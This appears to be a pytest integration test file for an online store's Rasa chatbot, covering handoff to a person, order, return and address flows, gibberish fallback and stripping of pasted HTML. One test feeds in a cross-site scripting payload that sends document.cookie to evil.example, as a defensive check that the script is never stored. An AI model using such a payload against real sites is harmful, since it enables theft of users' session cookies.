"""Dialogue that follows the shopper (issue #12), over REST against the real servers and store.

Every case is read back from the conversation's tracker: which actions ran and which responses
(``metadata.utter_action`` of the bot events) the shopper got, turn by turn. None of these
conversations writes to the store (refusals at the confirmations), so they share the session's.
"""

from __future__ import annotations

import uuid

import pytest

from tests.support.chat import Turn, chat, rest_id, tracker
from tools.launcher import Stack

pytestmark = pytest.mark.integration


def _sender() -> str:
    return f"dialogue-{uuid.uuid4().hex[:10]}"


def _intent(stack: Stack, sender: str) -> str:
    """The intent Rasa gave the shopper's latest message."""
    return tracker(stack, rest_id(sender))["latest_message"]["intent"]["name"]


def _said_all(turn: Turn, *responses: str) -> None:
    missing = [r for r in responses if r not in turn.responses]
    assert missing == [], f"missing {missing}; the assistant said {turn.responses}"


def _verified(stack: Stack, sender: str, opening: str, number: str, contact: str) -> None:
    for text in (opening, number, contact):
        chat(stack, sender, text)


def test_an_angry_demand_for_a_person_at_the_order_number_hands_off(stack: Stack) -> None:
    sender = _sender()
    chat(stack, sender, "where is my order")
    turn = chat(
        stack, sender, "this is ridiculous, I have waited weeks, put me through to a real human right now"
    )
    assert _intent(stack, sender) in ("human_handoff", "frustration")
    assert turn.actions[:2] == ["action_deactivate_loop", "action_handoff"]
    assert "utter_order_number_invalid" not in turn.responses


def test_nah_keep_it_at_the_cancel_confirmation_keeps_the_order(stack: Stack) -> None:
    sender = _sender()
    _verified(stack, sender, "please cancel my order", "#1003", "ben.buyer@example.com")
    turn = chat(stack, sender, "nah keep it")
    assert turn.responses == ["utter_order_kept"]
    assert "action_cancel_order" in turn.actions or "action_leave_form" in turn.actions


def test_a_one_line_address_is_confirmed_back_whole_then_refused(stack: Stack) -> None:
    sender = _sender()
    _verified(stack, sender, "i need to change my delivery address", "#1003", "ben.buyer@example.com")
    turn = chat(stack, sender, "350 Fifth Avenue, New York, NY 10118")
    assert turn.responses == ["utter_ask_address_confirmed"]
    assert "350 Fifth Avenue, New York NY, 10118, US" in turn.text
    turn = chat(stack, sender, "no, leave it as it is")  # read as deny, or as stop: a refusal either way
    assert turn.responses == ["utter_address_kept"]


def test_gibberish_twice_climbs_the_fallback_ladder(stack: Stack) -> None:
    sender = _sender()
    first = chat(stack, sender, "asdfjkl qwpo")
    second = chat(stack, sender, "zzkx vbnmq")
    assert first.responses == ["utter_fallback_rephrase"]
    assert second.actions[0] == "action_storefront_fallback"
    assert second.responses[0] == "utter_fallback_handing_off"


def test_two_products_in_one_question_are_both_described(stack: Stack) -> None:
    sender = _sender()
    turn = chat(stack, sender, "which is better for rain, the Ridgeline Storm Hardshell or the Zip Hoodie?")
    assert turn.actions[0] == "action_product_search"
    assert turn.responses == [
        "utter_product_compare_intro",
        "utter_product_compare_item",
        "utter_product_compare_fit_runs_small",
        "utter_product_compare_material",
        "utter_product_compare_best_for",
        "utter_product_compare_item",
        "utter_product_compare_fit_true_to_size",
        "utter_product_compare_best_for",  # the catalog names no material for the hoodie
        "utter_product_results_next",
    ]


# -- size questions inside a flow, yes/no outside forms, addresses at any question, gibberish ------


def test_a_size_question_at_the_order_number_is_answered_then_the_number_is_asked_again(stack: Stack) -> None:
    sender = _sender()
    chat(stack, sender, "where is my order")
    turn = chat(stack, sender, "btw what size should I get? do your sizes run small?")
    assert _intent(stack, sender) == "size_help"
    assert turn.actions[:2] == ["action_size_question", "order_status_form"]
    assert turn.responses == ["utter_size_charts", "utter_ask_order_number"]
    assert "https://shop.northwind-outfitters.example/pages/size-guide#tops" in turn.text
    assert chat(stack, sender, "#1001").responses == ["utter_ask_order_contact"]


def test_a_size_question_naming_a_product_and_height_inside_the_refund_flow(stack: Stack) -> None:
    sender = _sender()
    chat(stack, sender, "where's my refund")
    chat(stack, sender, "#1013")
    turn = chat(stack, sender, "also what size Zip Hoodie should I get, I'm 178cm and 72kg")
    assert turn.actions[:2] == ["action_size_question", "refund_status_form"]
    assert turn.responses[0] == "utter_size_recommendation_measurements"
    assert turn.responses[-1] == "utter_ask_order_contact"
    assert chat(stack, sender, "ella.returns@example.com").responses == ["utter_refund_received"]


@pytest.mark.parametrize("yes", ["yeah please", "sure, go ahead"])
def test_yes_to_the_offer_of_a_person_hands_off(stack: Stack, yes: str) -> None:
    sender = _sender()
    assert chat(stack, sender, "am I talking to a bot?").responses == ["utter_iamabot"]
    turn = chat(stack, sender, yes)
    assert "utter_handoff_queued" in turn.responses
    assert any(e["event"] == "pause" for e in turn.events)


@pytest.mark.parametrize("no", ["nah I'm fine", "no thanks, leave it"])
def test_no_to_the_offer_of_a_person_keeps_the_bot(stack: Stack, no: str) -> None:
    sender = _sender()
    chat(stack, sender, "am I talking to a bot?")
    turn = chat(stack, sender, no)
    assert turn.responses == ["utter_person_declined"]


@pytest.mark.parametrize("slot_question", ["new_city", "new_postal_code"])
def test_a_whole_address_at_a_later_address_question_is_confirmed_back(
    stack: Stack, slot_question: str
) -> None:
    sender = _sender()
    _verified(stack, sender, "i need to change my delivery address", "#1003", "ben.buyer@example.com")
    assert chat(stack, sender, "12 Elm Street").responses == ["utter_ask_new_city"]
    if slot_question == "new_postal_code":
        assert chat(stack, sender, "Portland, OR").responses == ["utter_ask_new_postal_code"]
    turn = chat(stack, sender, "sorry, the whole address is 350 Fifth Avenue, New York, NY 10118")
    assert turn.responses == ["utter_ask_address_confirmed"]
    assert "350 Fifth Avenue, New York NY, 10118, US" in turn.text
    assert chat(stack, sender, "nah keep it").responses == ["utter_address_kept"]


def test_the_gibberish_verdict_reaches_the_tracker(stack: Stack) -> None:
    sender = _sender()
    chat(stack, sender, "asdfjkl qwpo")
    latest = tracker(stack, rest_id(sender))["latest_message"]
    assert latest["in_scope_vocabulary"] == {"words": 2, "known": 0, "gibberish": True}
    chat(stack, sender, "where is my order")
    assert tracker(stack, rest_id(sender))["latest_message"]["in_scope_vocabulary"]["gibberish"] is False


def test_yes_to_the_person_offered_when_an_order_is_not_found_hands_off(stack: Stack) -> None:
    sender = _sender()
    chat(stack, sender, "where is my order")
    chat(stack, sender, "#1001")
    missed = chat(stack, sender, "nobody@example.com")
    assert "utter_order_not_found" in missed.responses
    turn = chat(stack, sender, "yes please")
    assert "utter_order_number_invalid" not in turn.responses
    assert "action_handoff" in turn.actions
    assert "utter_handoff_queued" in turn.responses


def test_ok_then_a_corrected_email_after_a_miss_is_an_answer_not_a_yes_to_the_person(stack: Stack) -> None:
    """ "Let's try once more, or I can get a person": "ok then it's <email>" corrects the contact."""
    sender = _sender()
    missed = chat(stack, sender, "what's the status of order 1005? my email is ava.shopper@example.com")
    assert "utter_order_not_found" in missed.responses
    turn = chat(stack, sender, "ok then it's dev.delayed@example.com")
    assert "action_handoff" not in turn.actions
    assert turn.responses == ["utter_order_contact_noted", "utter_ask_order_number"]
    found = chat(stack, sender, "1005")
    assert found.slots["verified_order"] == "1005"


# -- markup, a resolution named early, a person asked for in the form's terms (issue #12) ----------


def test_a_pasted_bold_order_question_is_read_as_its_text_and_recorded_without_markup(stack: Stack) -> None:
    sender = _sender()
    turn = chat(stack, sender, "<b>where is my order</b> 1001")
    assert turn.responses == ["utter_ask_order_contact"]  # the number in the markup was read
    assert tracker(stack, rest_id(sender))["latest_message"]["text"] == "where is my order 1001"
    _said_all(chat(stack, sender, "<p>ava.shopper@example.com</p>"), "utter_order_in_transit")
    stored = [e["text"] for e in tracker(stack, rest_id(sender))["events"] if e["event"] == "user"]
    assert stored == ["where is my order 1001", "ava.shopper@example.com"]  # what the console shows


@pytest.mark.parametrize(
    ("text", "response"),
    [
        ("<p>hi</p>", "utter_greet"),
        ("<div>do you ship to <i>Canada</i>?</div>", "utter_shipping_header"),
        ("<p>what&#39;s your return policy?</p><br>", "utter_return_policy"),
    ],
)
def test_widget_rich_text_is_answered_as_its_text(stack: Stack, text: str, response: str) -> None:
    sender = _sender()
    _said_all(chat(stack, sender, text), response)


def test_a_bare_script_tag_is_an_unclear_message_and_never_stored_as_markup(stack: Stack) -> None:
    sender = _sender()
    turn = chat(
        stack, sender, "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    )
    assert turn.responses == ["utter_fallback_rephrase"]
    assert "<script" not in str(tracker(stack, rest_id(sender))["events"])


def _at_the_condition_question(stack: Stack, sender: str) -> None:
    _verified(stack, sender, "I'd like to return something I bought", "#1002", "ava.shopper@example.com")
    _said_all(chat(stack, sender, "the Slim Fit Selvedge Jeans"), "utter_ask_return_reason")
    assert chat(stack, sender, "they're a bit too tight").responses == ["utter_ask_return_condition"]


@pytest.mark.parametrize("money_back", ["refund please", "just give me my money back", "I want a refund"])
def test_a_refund_asked_for_at_the_condition_question_is_the_preference(
    stack: Stack, money_back: str
) -> None:
    sender = _sender()
    _at_the_condition_question(stack, sender)
    turn = chat(stack, sender, money_back)
    assert turn.responses == ["utter_return_preference_refund", "utter_ask_return_condition"]
    state = tracker(stack, rest_id(sender))
    assert state["slots"]["return_condition"] is None and state["slots"]["return_resolution"] == "refund"
    confirm = chat(stack, sender, "yes, tags still on")
    assert confirm.responses == ["utter_ask_return_confirmed_refund"]  # not asked refund-or-exchange again
    kept = chat(stack, sender, "no, leave it")  # nothing written to the shared store
    assert (
        "action_submit_return" in kept.actions and "utter_ask_return_confirmed_refund" not in kept.responses
    )


def test_store_credit_asked_for_at_the_reason_question_is_kept_and_the_reason_asked_again(
    stack: Stack,
) -> None:
    sender = _sender()
    _verified(stack, sender, "i want to send something back", "#1002", "ava.shopper@example.com")
    chat(stack, sender, "the Slim Fit Selvedge Jeans")
    turn = chat(stack, sender, "store credit is fine by me")
    assert turn.responses == ["utter_return_preference_store_credit", "utter_ask_return_reason"]
    assert chat(stack, sender, "too loose").responses == ["utter_ask_return_condition"]
    assert chat(stack, sender, "yep unworn").responses == ["utter_ask_return_confirmed_store_credit"]
    chat(stack, sender, "no, don't")


@pytest.mark.parametrize(
    ("opening", "number", "demand"),
    [
        ("where's my order", "#1001", "I'm not giving you my email, get me a human"),
        ("cancel my order please", "1003", "why do you need my email just let me talk to someone"),
        ("i want to return something", "#1002", "not typing my phone number, put me through to a person"),
        ("has my order shipped", "1004", "nope not giving my email out. want someone from the shop"),
    ],
)  # fmt: skip
def test_a_demand_for_a_person_at_the_contact_question_hands_off(
    stack: Stack, opening: str, number: str, demand: str
) -> None:
    sender = _sender()
    chat(stack, sender, opening)
    _said_all(chat(stack, sender, number), "utter_ask_order_contact")
    turn = chat(stack, sender, demand)
    assert "action_handoff" in turn.actions
    assert "utter_handoff_queued" in turn.responses
    assert "utter_order_contact_invalid" not in turn.responses
    assert not (tracker(stack, rest_id(sender))["active_loop"] or {}).get("name")


def test_a_return_policy_question_at_the_condition_question_is_answered_then_asked_again(
    stack: Stack,
) -> None:
    sender = _sender()
    _at_the_condition_question(stack, sender)
    turn = chat(stack, sender, "hang on, how many days do I have to get it back to you?")
    assert turn.responses[0] == "utter_return_policy", turn.responses
    assert turn.responses[-1] == "utter_ask_return_condition"
    assert "utter_return_preference_refund" not in turn.responses  # a question is no preference
    chat(stack, sender, "stop")


def test_frustration_while_the_shipping_question_waits_for_a_country_hands_off(stack: Stack) -> None:
    sender = _sender()
    asked = chat(stack, sender, "how much is delivery?")
    assert asked.responses[-1] == "utter_ask_shipping_form_country", asked.responses
    turn = chat(stack, sender, "oh come on, this is hopeless, I've asked you three times already")
    assert "action_handoff" in turn.actions
    assert "utter_handoff_queued" in turn.responses
    assert not (tracker(stack, rest_id(sender))["active_loop"] or {}).get("name")


def test_a_difference_between_two_products_describes_both(stack: Stack) -> None:
    sender = _sender()
    turn = chat(stack, sender, "what's the difference between the Chelsea Boot and the Trail Runner")
    assert turn.responses.count("utter_product_compare_item") == 2, turn.responses
    assert "Chelsea Boot" in turn.text and "Trail Runner" in turn.text
